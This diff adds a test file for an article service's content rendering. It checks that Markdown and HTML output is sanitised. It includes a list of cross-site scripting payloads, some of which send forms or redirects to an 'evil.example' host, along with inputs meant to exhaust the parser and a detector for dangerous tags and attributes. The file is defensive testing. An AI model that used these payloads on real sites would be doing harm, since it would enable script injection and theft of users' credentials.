@@ -1,0 +1,186 @@
+import { Parser } from 'htmlparser2'
+import { marked } from 'marked'
+import { describe, expect, test } from 'vitest'
+import { atOnce, service, word } from './support/service'
+
+const { call, post, publish, refusal, url } = service
+
+const rendered = [
+  {
+    name: 'headings begin at h2, skip no level and have ids',
+    format: 'markdown',
+    content: '# Satu\n\n### Dua\n\n# Satu',
+    html: '<h2 id="satu">Satu</h2>\n<h3 id="dua">Dua</h3>\n<h2 id="satu-2">Satu</h2>\n',
+  },
+  {
+    name: 'headings of HTML do so too',
+    format: 'html',
+    content: '<h4>Satu</h4><h6>Dua</h6>',
+    html: '<h2 id="satu">Satu</h2><h3 id="dua">Dua</h3>',
+  },
+  {
+    name: 'links that leave the site say so, those within it do not',
+    format: 'markdown',
+    content: '[a](https://example.org/) [b](/artikel/b) [c](#c) [d](mailto:d@example.org)',
+    html: '<p><a href="https://example.org/" rel="noopener">a</a> <a href="/artikel/b">b</a> <a href="#c">c</a> <a href="mailto:d@example.org">d</a></p>\n',
+  },
+  {
+    name: 'pictures are loaded when they are needed',
+    format: 'html',
+    content: '<p><img alt="a" src="https://example.org/a.jpg"></p>',
+    html: '<p><img alt="a" src="https://example.org/a.jpg" loading="lazy" decoding="async" /></p>',
+  },
+  {
+    name: 'strikethrough and plain addresses',
+    format: 'markdown',
+    content: '~~a~~ https://example.org',
+    html: '<p><del>a</del> <a href="https://example.org" rel="noopener">https://example.org</a></p>\n',
+  },
+  {
+    name: 'boxes of tasks have a name',
+    format: 'markdown',
+    content: '- [x] beli kopi',
+    html: '<ul>\n<li class="task"><input type="checkbox" disabled checked aria-label="beli kopi" /> beli kopi</li>\n</ul>\n',
+  },
+  {
+    name: 'HTML within Markdown',
+    format: 'markdown',
+    content: 'a <kbd>b</kbd> **c**',
+    html: '<p>a <kbd>b</kbd> <strong>c</strong></p>\n',
+  },
+  {
+    name: 'plain text is text, whatever it looks like',
+    format: 'text',
+    content: '# a\n<b>c</b>',
+    html: '<p># a<br />&lt;b&gt;c&lt;/b&gt;</p>',
+  },
+]
+
+describe('content is rendered:', () => {
+  test.each(rendered)('$name', async ({ format, content, html }) => {
+    expect((await publish({ content, content_format: format })).content).toBe(html)
+  })
+
+  test('and its format is found where it is not given', async () => {
+    const contents = ['Halo dunia.', '# Halo\n\n- a\n- b', '<p>Halo <b>dunia</b></p>']
+    const formats = await Promise.all(contents.map((content) => publish({ content })))
+    expect(formats.map(({ content_format }) => content_format)).toEqual(['text', 'markdown', 'html'])
+  })
+})
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<a href="java&#x0A;script:alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](<java\nscript:alert(1)>)',
+  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
+  '<javascript:alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<style>body{background:url(javascript:alert(1))}</style>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<form action="https://evil.example"><input name=password><button>x</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
+  '<details ontoggle=alert(1) open><summary>x</summary></details>',
+  '`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```',
+]
+
+describe('nothing that an author writes runs in a reader:', () => {
+  test.each(attacks)('%s', async (content) => {
+    for (const format of ['markdown', 'html', 'text', 'auto']) {
+      const { slug, content: html } = await publish({ content: `a\n\n${content}`, content_format: format })
+      expect(dangersIn(html)).toEqual([])
+      const markdown = await service.detail(`${slug}?format=markdown`)
+      expect(dangersIn(await marked.parse(markdown.body.data.content))).toEqual([])
+    }
+  })
+
+  test('nor in the other fields, which are text', async () => {
+    const attack = '<script>alert(1)</script>"\'><img src=x onerror=alert(1)>'
+    const { slug } = await publish({
+      title: attack,
+      summary: attack,
+      author: attack,
+      tags: [attack],
+      category: `${word()} ${attack}`,
+      meta_title: attack,
+      meta_description: attack,
+      gallery: [{ url: 'https://example.org/a.jpg', alt: attack, caption: attack }],
+    })
+    const page = await (await fetch(`${url}/artikel/${slug}`)).text()
+    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
+    expect(dangersIn(page.replace(/<script\b[^>]*\bsrc="\/[^"]*"[^>]*><\/script>/g, ''))).toEqual([])
+  })
+})
+
+describe('hostile content', () => {
+  const hostile = [
+    { name: 'nested quotes', content: '> '.repeat(20_000) },
+    { name: 'emphasis that never ends', content: '*a **b '.repeat(60_000) },
+    {
+      name: 'nested lists',
+      content: Array.from({ length: 1_400 }, (_, at) => `${' '.repeat(at)}- a`).join('\n'),
+    },
+  ]
+
+  test.each(hostile)('is refused or done in time while others are answered: $name', async ({ content }) => {
+    await publish({})
+    const outcome = post({ title: word(), category: 'x', content, content_format: 'markdown' })
+    const others = await atOnce(20, async () => {
+      const start = performance.now()
+      const { status } = await call('GET', `/api/artikel?q=${word()}`)
+      return { status, milliseconds: performance.now() - start }
+    })
+    const { status, body } = await outcome
+    expect(others.map((other) => other.status)).toEqual(Array(20).fill(200))
+    expect(Math.max(...others.map(({ milliseconds }) => milliseconds))).toBeLessThan(2_000)
+    expect([201, 422]).toContain(status)
+    if (status === 422) expect(body).toMatchObject({ errors: [{ pointer: '/content', code: 'too_complex' }] })
+  })
+
+  test('leaves nothing behind when it is refused', async () => {
+    const slug = word()
+    const content = '> '.repeat(20_000)
+    const { status } = await refusal('PUT', `/api/artikel/${slug}`, {
+      body: { title: 'x', category: slug, content, content_format: 'markdown' },
+    })
+    expect(status).toBe(422)
+    expect((await service.detail(slug)).status).toBe(404)
+  })
+})
+
+/** Elements, attributes and addresses by which a page could be made to run or send something. */
+function dangersIn(html: string): string[] {
+  const found: string[] = []
+  const parser = new Parser({
+    onopentag(name, attributes) {
+      if (
+        /^(script|style|form|button|object|embed|base|meta|svg|math|link)$/.test(name) &&
+        !isPagePart(name)
+      ) {
+        found.push(name)
+      }
+      for (const [attribute, value] of Object.entries(attributes)) {
+        if (/^(on|srcdoc$|formaction$)/.test(attribute)) found.push(`${name}[${attribute}]`)
+        if (/^(href|src|action)$/.test(attribute) && /^\s*(javascript|data|vbscript):/i.test(value)) {
+          found.push(value)
+        }
+      }
+    },
+  })
+  const isPage = html.startsWith('<!DOCTYPE')
+  /** What a page's own head, icons and search box are made of. */
+  function isPagePart(name: string): boolean {
+    return isPage && /^(form|button|meta|svg|link|style)$/.test(name)
+  }
+  parser.end(html)
+  return found
+}
